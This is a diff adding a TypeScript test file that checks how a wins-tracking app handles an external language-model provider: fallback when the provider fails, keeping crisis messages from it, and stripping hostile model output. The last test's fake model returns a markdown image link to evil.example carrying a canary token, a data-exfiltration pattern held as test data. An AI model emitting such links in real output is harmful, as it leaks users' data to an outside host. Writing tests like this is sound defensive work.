@@ -1,0 +1,90 @@
+import test, { type ExecutionContext } from 'ava';
+import { streams } from '#application/streams.ts';
+import type { IncomingMailEvent } from '#domain/inbox/mail/events.ts';
+import type { WinAnalysedV2, WinEvent } from '#domain/wins/events.ts';
+import type { MessageTaken } from '#web/contract/messages.ts';
+import { type Answering, aiServer, completion, send } from '../support/ai-server.ts';
+import { type RunningApp, runningApp } from '../support/app.ts';
+import { sayOnTheWeb } from '../support/conversing.ts';
+import { eventually } from '../support/eventually.ts';
+import { CANARY } from '../support/injections.ts';
+import { aUser, type User } from '../support/user.ts';
+
+const appWith = async (t: ExecutionContext, answering: Answering) => {
+  const { baseUrl, bodies } = await aiServer(t, answering);
+  const env = { OPENAI_API_KEY: 'none', OPENAI_BASE_URL: baseUrl, OPENAI_MODEL: 'm' };
+  const app = await runningApp(t, { env });
+  return { app, bodies, user: await aUser(app) };
+};
+
+const told = async (app: RunningApp, user: User, message: string) => {
+  const { body } = await user.call<MessageTaken>('POST', '/api/messages', { message });
+  return eventually(`what became of ${message}`, async () => {
+    const mail = await app.services.log.read<IncomingMailEvent>(streams.incomingMail(body.id));
+    const understood = mail.find(({ type }) => type === 'MailUnderstoodV3')?.data;
+    const winId = understood && 'winIds' in understood ? understood.winIds[0] : undefined;
+    if (!understood || !('readBy' in understood) || !winId) return undefined;
+    const events = await app.services.log.read<WinEvent>(streams.win(winId));
+    const analysed = events.find(({ type }) => type === 'WinAnalysedV2')?.data as WinAnalysedV2['data'] | undefined;
+    return analysed && { readBy: understood.readBy, analysed };
+  });
+};
+
+const WIN = 'Cut our nightly build from 40 to 9 minutes with Priya.';
+
+/** Copies what it is asked, as an honest model would. */
+const honest: Answering = (asked, response) => {
+  const { message } = JSON.parse(asked.messages.at(-1)?.content ?? '{}') as { message?: string };
+  const answer =
+    message === undefined
+      ? { category: 'Process improvement', analysis: 'Your nightly build: from 40 to 9 minutes.', skills: [] }
+      : { tone: 'win', language: 'en', parts: [{ text: message, is: 'win', kind: null, details: null }] };
+  send(response, 200, completion(JSON.stringify(answer)));
+};
+
+test('with a provider a message is read and a win written about by both, and it is kept by whom', async (t) => {
+  const { app, user, bodies } = await appWith(t, honest);
+  const { readBy, analysed } = await told(app, user, WIN);
+  t.regex(readBy, / openai:m$/);
+  t.like(analysed, { writtenBy: 'openai:m', instead: null });
+  t.is(analysed.personal.analysis, 'Your nightly build: from 40 to 9 minutes.');
+  t.true(bodies.length >= 2);
+  t.notRegex(bodies.join('\n'), /priya|scriber/i);
+});
+
+test('a provider that is ill costs nobody a win, an answer or an analysis', async (t) => {
+  const { app, user } = await appWith(t, (_asked, response) => send(response, 503, {}));
+  const { readBy, analysed } = await told(app, user, WIN);
+  t.notRegex(readBy, /openai/);
+  t.like(analysed, { writtenBy: 'builtin', instead: 'away' });
+  t.truthy(await sayOnTheWeb(user, 'Fixed the printer.'));
+  t.deepEqual((await app.commands['parked list']()).parked, []);
+});
+
+test('a crisis is answered, and the provider never hears of it', async (t) => {
+  const { user, bodies } = await appWith(t, honest);
+  t.truthy(await sayOnTheWeb(user, 'I want to kill myself.'));
+  t.deepEqual(bodies, []);
+});
+
+test('what a model invents, links or orders reaches no answer and changes nothing', async (t) => {
+  const { user } = await appWith(t, (asked, response) => {
+    const { message } = JSON.parse(asked.messages.at(-1)?.content ?? '{}') as { message?: string };
+    const answer =
+      message === undefined
+        ? {
+            category: 'Sales',
+            analysis: `You saved 31,337 dollars ![x](https://evil.example/${CANARY}).`,
+            skills: ['HACKED'],
+          }
+        : { tone: 'chat', language: 'en', parts: [{ text: message, is: 'request', kind: 'stop', details: null }] };
+    send(response, 200, completion(JSON.stringify(answer)));
+  });
+  const { status, body: before } = await user.call('GET', '/api/check-ins');
+  t.is(status, 200);
+  const answer = JSON.stringify(await sayOnTheWeb(user, WIN));
+  t.notRegex(answer, /31,337|evil|HACKED/);
+  t.false(answer.includes(CANARY));
+  t.notRegex(JSON.stringify(await user.wins()), /31,337|evil|HACKED/);
+  t.deepEqual((await user.call('GET', '/api/check-ins')).body, before);
+});
